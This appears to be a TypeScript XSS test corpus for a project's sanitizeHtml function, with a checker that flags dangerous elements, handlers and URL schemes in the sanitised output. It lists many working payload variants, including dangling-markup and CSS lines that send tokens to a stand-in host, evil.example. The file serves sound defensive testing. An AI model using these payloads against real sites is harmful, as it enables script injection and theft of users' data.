// XSS corpus for sanitizeHtml, written for this project. Every executable payload bumps
// window.__xss so a test can render the sanitised output and prove nothing ran.
// Grouped by attack class (`kind`) so a failure points at the class, not just a string.

export interface XssCase {
  kind: string;
  payload: string;
}

const J = 'window.__xss++';
const J_URI = `javascript:${J}`;

function cases(kind: string, payloads: string[]): XssCase[] {
  return payloads.map((payload) => ({ kind, payload }));
}

// Elements x handlers, with the attribute syntaxes parsers accept (quoted, bare, slash-separated,
// mixed case), so a filter keyed on one spelling of "on..." is caught out.
const HANDLER_ELEMENTS = [
  'img src=x',
  'body',
  'div',
  'a href="#"',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
  'select autofocus',
  'textarea autofocus',
  'p',
  'span',
  'table',
  'li',
  'h2',
];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle'];
const SPELLINGS = [
  (el: string, h: string) => `<${el} ${h}="${J}">x</${el.split(' ')[0]}>`,
  (el: string, h: string) => `<${el} ${h.toUpperCase()}=${J}>`,
  (el: string, h: string) => `<${el}\n${h}='${J}'>`,
];

const eventHandlers: XssCase[] = HANDLER_ELEMENTS.flatMap((el, i) =>
  HANDLERS.map((h, j) => ({
    kind: 'event-handler',
    payload: (SPELLINGS[(i + j) % SPELLINGS.length] ?? SPELLINGS[0]!)(el, h),
  })),
).concat(
  cases('event-handler', [
    `<img src=x onerror=${J}>`,
    `<img/src/onerror=${J}>`,
    `<img src="x"onerror="${J}">`,
    `<IMG SRC=x OnErRoR=${J}>`,
    `<img src=x onerror=&#119;indow.__xss++>`,
    `<img src=x onerror="&#x77;&#x69;ndow.__xss++">`,
    `<img src=x\nonerror=${J}>`,
    `<img src=x onerror\t=\t${J}>`,
    `<video><source onerror="${J}"></video>`,
    `<div style="animation-name:x" onanimationstart="${J}">`,
    `<div onpointerenter="${J}">hover</div>`,
    `<body onpageshow="${J}">`,
    `<a href="#" onauxclick="${J}">x</a>`,
    `<p onwheel="${J}" onscroll="${J}">x</p>`,
    `<img src=x onerror=${J}//`, // unterminated: the parser drops it, the sanitiser must too
    `<img src=x onerror="${J}" onerror="noop">`,
  ]),
);

// The hrefs here are decoded by the HTML parser (entities) or the URL parser (tabs, newlines,
// leading controls) back into javascript:, vbscript: or data: before navigation.
const SCHEME_VARIANTS = [
  J_URI,
  `JaVaScRiPt:${J}`,
  ` javascript:${J}`,
  `\tjavascript:${J}`,
  `java\tscript:${J}`,
  `java\nscript:${J}`,
  `java\rscript:${J}`,
  `\u0001javascript:${J}`,
  `javascript\t:${J}`,
  `&#106;avascript:${J}`,
  `&#x6A;&#x61;vascript:${J}`,
  `&#0000106avascript:${J}`,
  `javascript&colon;${J}`,
  `jav&Tab;ascript:${J}`,
  `jav&NewLine;ascript:${J}`,
  `vbscript:msgbox(1)`,
  `VBScript:${J}`,
  `data:text/html,<script>${J}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MrKzwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>${J}</script>`,
  `data:image/svg+xml,<svg onload="${J}">`,
  `javascript://%0a${J}`,
];

const schemeUris: XssCase[] = SCHEME_VARIANTS.flatMap((uri) => [
  { kind: 'scheme-uri', payload: `<a href="${uri}">click</a>` },
  { kind: 'scheme-uri', payload: `<img src="${uri}">` },
]).concat(
  cases('scheme-uri', [
    `<iframe src="${J_URI}"></iframe>`,
    `<form action="${J_URI}"><button>go</button></form>`,
    `<button formaction="${J_URI}">go</button>`,
    `<object data="${J_URI}"></object>`,
    `<embed src="${J_URI}">`,
    `<area href="${J_URI}">`,
    `<a href=${J_URI}>bare</a>`,
    `<a href='${J_URI}'>single</a>`,
    `<img src=x srcset="${J_URI} 1x">`,
    `<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>`,
    `<img src="data:image/png;base64,iVBORw0KGgo=">`,
    `<a href="ftp://example.com/">ftp</a>`,
  ]),
);

// Same idea with encodings a naive "decode then check" can miss, or that later code might
// decode: percent-encoding, full-width letters, Unicode escapes as literal text.
const encodedUris: XssCase[] = cases('encoded-uri', [
  `<a href="%6Aavascript:${J}">pct</a>`,
  `<a href="%6A%61%76%61%73%63%72%69%70%74%3A${J}">pct all</a>`,
  `<a href="javascript%3A${J}">pct colon</a>`,
  `<a href="&#x25;6Aavascript:${J}">entity pct</a>`,
  `<a href="&amp;#106;avascript:${J}">double entity</a>`,
  `<a href="\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:${J}">fullwidth</a>`,
  `<a href="javascript\uFF1A${J}">fullwidth colon</a>`,
  `<a href="\\u006Aavascript:${J}">literal escape</a>`,
  `<a href="java\u0000script:${J}">nul</a>`,
  `<a href="java\u00ADscript:${J}">soft hyphen</a>`,
  `<a href="java\u200Bscript:${J}">zwsp</a>`,
  `<a href="\u2028javascript:${J}">line sep</a>`,
  `<img src="%6Aavascript:${J}">`,
  `<img src="\uFF4A\uFF41\uFF56\uFF41script:${J}">`,
  `<a href="//evil.example/steal">protocol relative</a>`,
  `<a href="/\\evil.example/steal">slash backslash</a>`,
  `<img src="//evil.example/pixel.gif">`,
  `<img src="http://insecure.example/a.png">`,
]);

// Markup that is inert as parsed once but changes meaning when serialised and parsed again
// (innerHTML round trips), usually via raw-text elements or foreign-content namespaces.
const mutation: XssCase[] = cases('mutation', [
  `<noscript><p title="</noscript><img src=x onerror=${J}>">`,
  `<style><img src=x onerror=${J}></style>`,
  `<title><img src=x onerror=${J}></title>`,
  `<textarea></textarea><img src=x onerror=${J}></textarea>`,
  `<textarea><img title="</textarea><img src=x onerror=${J}>"></textarea>`,
  `<xmp><img title="</xmp><img src=x onerror=${J}>"></xmp>`,
  `<iframe><img title="</iframe><img src=x onerror=${J}>"></iframe>`,
  `<noembed><img title="</noembed><img src=x onerror=${J}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${J}>"></noframes>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${J}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${J}></style></mglyph></table></mtext></math>`,
  `<math><mi><table><mi><mglyph><svg><mtext><style><img src onerror=${J}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${J}>`,
  `<svg><p><style><a id="</style><img src=1 onerror=${J}>">`,
  `<table><a href="#">x<img src=x onerror=${J}></a></table>`,
  `<div><plaintext><img src=x onerror=${J}>`,
  `<listing>&lt;img src=x onerror=${J}&gt;</listing>`,
  `<select><style></select><img src=x onerror=${J}>`,
]);

const svgMath: XssCase[] = cases('svg-mathml', [
  `<svg onload="${J}">`,
  `<svg><script>${J}</script></svg>`,
  `<svg><animate onbegin="${J}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${J}"/></svg>`,
  `<svg><a><animate attributeName="href" values="${J_URI}"/><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${J}'/></svg>#x"/></svg>`,
  `<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${J}"></foreignObject></svg>`,
  `<svg><a xlink:href="${J_URI}"><text y="20">x</text></a></svg>`,
  `<svg><image href="x" onerror="${J}"/></svg>`,
  `<svg><desc><img src=x onerror=${J}></desc></svg>`,
  `<math><maction actiontype="statusline" xlink:href="${J_URI}">x</maction></math>`,
  `<math href="${J_URI}"><mi>x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${J}></annotation-xml></math>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${J}</handler></svg>`,
]);

// Named elements shadow document/window globals and form properties the app might read.
const clobbering: XssCase[] = cases('dom-clobbering', [
  `<img name="cookie">`,
  `<img id="config" src="https://cdn.example/a.png">`,
  `<a id="apiBase" href="https://evil.example/">x</a>`,
  `<a id="x"></a><a id="x" name="y" href="${J_URI}"></a>`,
  `<form name="body"><input name="attributes"></form>`,
  `<form id="f"><input name="action" value="https://evil.example"></form>`,
  `<img name="getElementById">`,
  `<div id="__xss">x</div>`,
  `<span name="location">x</span>`,
  `<img name="createElement"><img name="querySelector">`,
  `<form name="parentNode"><input id="nodeName"></form>`,
  `<embed name="currentScript">`,
]);

const templateNoscript: XssCase[] = cases('template-noscript', [
  `<template><img src=x onerror=${J}></template>`,
  `<template><script>${J}</script></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=${J}></template></div>`,
  `<noscript><img src=x onerror=${J}></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${J}></style></noscript>`,
  `{{constructor.constructor('${J}')()}}`,
  `<p title="{{7*7}}">\${${J}}</p>`,
  `<%= ${J} %>`,
]);

const styles: XssCase[] = cases('style', [
  `<div style="width:expression(${J})">x</div>`,
  `<div style="background:url(${J_URI})">x</div>`,
  `<style>@import "${J_URI}";</style>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
  `<p style="position:fixed;inset:0;z-index:99999">overlay</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<span style="x:\\65xpression(${J})">x</span>`,
]);

const metaRefresh: XssCase[] = cases('meta-refresh', [
  `<meta http-equiv="refresh" content="0;url=${J_URI}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<meta charset="utf-7">+ADw-script+AD4-${J}+ADw-/script+AD4-`,
]);

const baseHref: XssCase[] = cases('base-href', [
  `<base href="${J_URI}//">`,
  `<base href="https://evil.example/">`,
  `<base target="_blank"><a href="/x">x</a>`,
]);

const srcdoc: XssCase[] = cases('srcdoc', [
  `<iframe srcdoc="<script>${J}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${J}&gt;"></iframe>`,
  `<div srcdoc="<script>${J}</script>">x</div>`,
]);

const embedding: XssCase[] = cases('embedding', [
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="data:text/html,<script>${J}</script>"></object>`,
  `<embed src="data:text/html,<script>${J}</script>">`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  `<frameset><frame src="${J_URI}"></frameset>`,
  `<portal src="https://evil.example/"></portal>`,
  `<script>${J}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<ScRiPt>${J}</sCrIpT>`,
  `<script/x>${J}</script>`,
]);

// Unclosed quotes/tags that swallow following page markup (tokens, CSRF fields) into a URL.
const dangling: XssCase[] = cases('dangling-markup', [
  `<img src="https://evil.example/?leak=`,
  `<a href="https://evil.example/?leak=`,
  `<form action="https://evil.example/"><button>`,
  `<base href="https://evil.example/`,
  `<meta http-equiv="refresh" content='0;URL=https://evil.example/?`,
  `<textarea>`,
  `<img src='https://evil.example/?`,
  `<input type="hidden" name="x" value="`,
]);

const commentCdata: XssCase[] = cases('comment-cdata', [
  `<!--><img src=x onerror=${J}>-->`,
  `<!-- --!><img src=x onerror=${J}>-->`,
  `<!--<img src="--><img src=x onerror=${J}//">`,
  `<![CDATA[><img src=x onerror=${J}>]]>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${J}>]]></svg>`,
  `<?xml-stylesheet href="${J_URI}"?><img src=x onerror=${J}>`,
  `<!DOCTYPE html><img src=x onerror=${J}>`,
  `<p>a<!--</p><img src=x onerror=${J}>--></p>`,
  `<div><!--[if IE]><img src=x onerror=${J}><![endif]--></div>`,
]);

export const XSS_CORPUS: XssCase[] = [
  ...eventHandlers,
  ...schemeUris,
  ...encodedUris,
  ...mutation,
  ...svgMath,
  ...clobbering,
  ...templateNoscript,
  ...styles,
  ...metaRefresh,
  ...baseHref,
  ...srcdoc,
  ...embedding,
  ...dangling,
  ...commentCdata,
];

const FORBIDDEN_ELEMENTS = new Set([
  'svg', 'math', 'form', 'input', 'button', 'iframe', 'object', 'embed', 'style', 'script',
  'template', 'noscript', 'base', 'meta', 'link', 'frame', 'frameset', 'applet', 'portal',
  'textarea', 'select',
]); // prettier-ignore
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data']);
const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);
// Controls, space and the invisible characters people use to split "javascript" apart.
// eslint-disable-next-line no-control-regex
const INVISIBLES = /[\u0000-\u0020\u007f-\u009f\u00ad\u200b-\u200f\u2028\u2029\ufeff]/g;
const XHTML = 'http://www.w3.org/1999/xhtml';

// Undo every layer a browser or a later decoder might undo, then read the scheme. Deliberately
// more paranoid than a browser (percent- and full-width-decoding do not make a scheme live), so
// the oracle errs towards "dangerous".
function effectiveScheme(value: string, doc: Document): string | null {
  const entities = doc.createElement('textarea');
  let current = value;
  for (let round = 0; round < 3; round++) {
    entities.innerHTML = current; // RCDATA: decodes character references, never parses tags
    let next = entities.value;
    try {
      next = decodeURIComponent(next);
    } catch {
      // a stray % is not an encoding; keep the text as is
    }
    next = next.normalize('NFKC').replace(INVISIBLES, '');
    if (next === current) break;
    current = next;
  }
  const match = /^([a-z][a-z0-9+.-]*):/i.exec(current);
  return match?.[1]?.toLowerCase() ?? null;
}

function describe(el: Element): string {
  return el.tagName.toLowerCase();
}

// Lists everything in sanitised output that could execute script, load foreign content or
// clobber globals. Empty array = safe.
export function isDangerous(html: string): string[] {
  const doc = new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html');
  const findings: string[] = [];
  // Whole document, not just body: <meta>/<base> before content would be hoisted into <head>,
  // and <body onload> attributes are merged onto the existing body element.
  for (const el of Array.from(doc.querySelectorAll('*'))) {
    const tag = el.localName.toLowerCase();
    if (FORBIDDEN_ELEMENTS.has(tag)) findings.push(`element <${tag}>`);
    if (el.namespaceURI !== XHTML) findings.push(`foreign element <${tag}> in ${el.namespaceURI}`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) findings.push(`handler ${name} on <${describe(el)}>`);
      else if (name === 'style') findings.push(`style on <${describe(el)}>`);
      else if (name === 'id' || name === 'name')
        findings.push(`${name}=${attr.value} (clobbering)`);
      else if (name === 'srcdoc') findings.push(`srcdoc on <${describe(el)}>`);
      else if (URL_ATTRIBUTES.has(name)) {
        const scheme = effectiveScheme(attr.value, doc);
        if (scheme !== null && !SAFE_SCHEMES.has(scheme)) {
          findings.push(`${name}=${attr.value} (scheme ${scheme}) on <${describe(el)}>`);
        }
      }
    }
  }
  return findings;
}
